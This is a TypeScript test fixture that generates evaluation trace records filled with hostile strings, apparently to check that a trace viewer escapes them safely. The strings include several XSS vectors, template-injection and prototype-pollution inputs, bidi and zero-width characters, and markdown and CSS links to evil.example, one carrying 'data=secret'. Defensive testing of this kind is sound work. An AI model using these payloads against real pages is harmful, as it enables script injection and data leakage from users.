// An evaluation whose every text tries something: markup, scripts, addresses, and characters that hide or turn.

const PAYLOADS = [
  "<script>globalThis.pwned = 1</script>",
  "<img src=x onerror='globalThis.pwned=1'>",
  "<svg onload=globalThis.pwned=1><a xlink:href='javascript:pwned=1'>x</a></svg>",
  '"><iframe src="javascript:globalThis.pwned=1"></iframe>',
  "javascript:globalThis.pwned=1",
  "![leak](https://evil.example/leak.png?data=secret)",
  "[click](https://evil.example/)",
  "<style>*{background:url(https://evil.example/css)}</style>",
  "<link rel=stylesheet href=https://evil.example/a.css>",
  "{{constructor.constructor('globalThis.pwned=1')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: this is what the payload is
  "${globalThis.pwned=1}",
  "pay \u202Enothing\u202C \u200Bnow",
  "__proto__",
  "a".repeat(100_000),
];

/** Its lines, as an import takes them. */
export function hostileLines(): string {
  const at = (second: number) => new Date(Date.parse("2026-01-01T00:00:00Z") + second * 1000).toISOString();
  const shared = { trace_id: "hostile", attributes: {}, summary: {} };
  const calls = ["one", "two"].flatMap((id, evaluation) => [
    {
      ...shared,
      id,
      parent_id: null,
      display_name: PAYLOADS[evaluation],
      op_name: "Evaluation.evaluate",
      started_at: at(1000 * evaluation),
      ended_at: at(1000 * evaluation + 500),
      inputs: { self: PAYLOADS[1], model: PAYLOADS[4] },
      output: null,
    },
    ...PAYLOADS.map((payload, row) => ({
      ...shared,
      id: `${id}-${row}`,
      parent_id: id,
      op_name: "Evaluation.predict_and_score",
      started_at: at(1000 * evaluation + row),
      ended_at: at(1000 * evaluation + row + 1),
      inputs: { example: { question: payload, "<b>key</b>": payload, n: row } },
      output: {
        output: evaluation === 0 ? payload : `${payload} changed`,
        scores: { "<img src=x onerror=pwned=1>": (row + evaluation) % 2 === 0, reason: payload },
      },
    })),
  ]);
  return calls.map((call) => JSON.stringify(call)).join("\n");
}
